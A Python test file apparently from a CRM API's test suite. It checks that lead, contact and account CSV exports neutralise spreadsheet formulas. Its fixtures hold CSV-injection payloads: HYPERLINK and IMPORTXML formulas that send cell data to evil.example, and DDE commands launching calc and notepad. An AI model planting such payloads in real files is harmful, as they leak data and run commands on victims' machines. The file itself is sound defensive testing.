"""CSV injection: exported cells never start a spreadsheet formula, whether the value came
in through the API or through a CSV import."""

from __future__ import annotations

import csv
import io

from .conftest import Tenant

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
FIRST_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
LEAD = {
    "first_name": FIRST_NAME,
    "last_name": HYPERLINK,
    "company": "+62 PT Jaya",
    "title": "-2+3",
    "notes": "=cmd|' /C notepad'!'A1'",
    "tags": ["=1+1", "vip"],
}
IMPORTED = 'last_name,company\nWijaya,"=IMPORTXML(CONCAT(""http://evil.example/?"",A2),""//a"")"\n'


async def _export(tenant: Tenant, resource: str) -> list[dict[str, str]]:
    response = await tenant.gateway.get(f"/api/v1/{resource}/export.csv", headers=tenant.auth())
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith(f'attachment; filename="{resource}-') and "\n" not in disposition
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (resource, column, cell)
    return rows


async def test_lead_exports_neutralise_formulas_from_the_api_and_from_imports(
    tenant: Tenant,
) -> None:
    admin = tenant.auth()
    created = await tenant.gateway.post("/api/v1/leads", json=LEAD, headers=admin)
    assert created.status_code == 201, created.text
    imported = await tenant.gateway.post(
        "/api/v1/leads/import",
        content=IMPORTED.encode(),
        headers={**admin, "content-type": "text/csv"},
    )
    assert imported.status_code == 200 and imported.json()["created"] == 1, imported.text
    rows = {row["id"]: row for row in await _export(tenant, "leads")}
    row = rows.pop(created.json()["id"])
    assert row["last_name"] == "'" + HYPERLINK, "prefixed once, otherwise unchanged"
    assert row["first_name"] == "'" + FIRST_NAME
    assert (row["company"], row["title"]) == ("'+62 PT Jaya", "'-2+3")
    assert row["tags"] == "'=1+1;vip"
    assert row["score"].isdigit() and row["score"] == str(created.json()["score"])
    (other,) = rows.values()
    assert other["company"] == '\'=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'
    stored = await tenant.gateway.get(f"/api/v1/leads/{created.json()['id']}", headers=admin)
    assert stored.json()["last_name"] == HYPERLINK, "the data itself is kept as given"


async def test_contact_and_account_exports_neutralise_formulas(tenant: Tenant) -> None:
    admin = tenant.auth()
    account = await tenant.gateway.post(
        "/api/v1/accounts",
        json={"name": "@PT Formula", "industry": "=1+1", "domain": "formula.co.id"},
        headers=admin,
    )
    assert account.status_code == 201, account.text
    contact = await tenant.gateway.post(
        "/api/v1/contacts",
        json={"first_name": "+Andi", "last_name": HYPERLINK, "title": "-Direktur"},
        headers=admin,
    )
    assert contact.status_code == 201, contact.text
    (account_row,) = await _export(tenant, "accounts")
    assert (account_row["name"], account_row["industry"]) == ("'@PT Formula", "'=1+1")
    (contact_row,) = await _export(tenant, "contacts")
    assert contact_row["last_name"] == "'" + HYPERLINK
    assert (contact_row["first_name"], contact_row["title"]) == ("'+Andi", "'-Direktur")
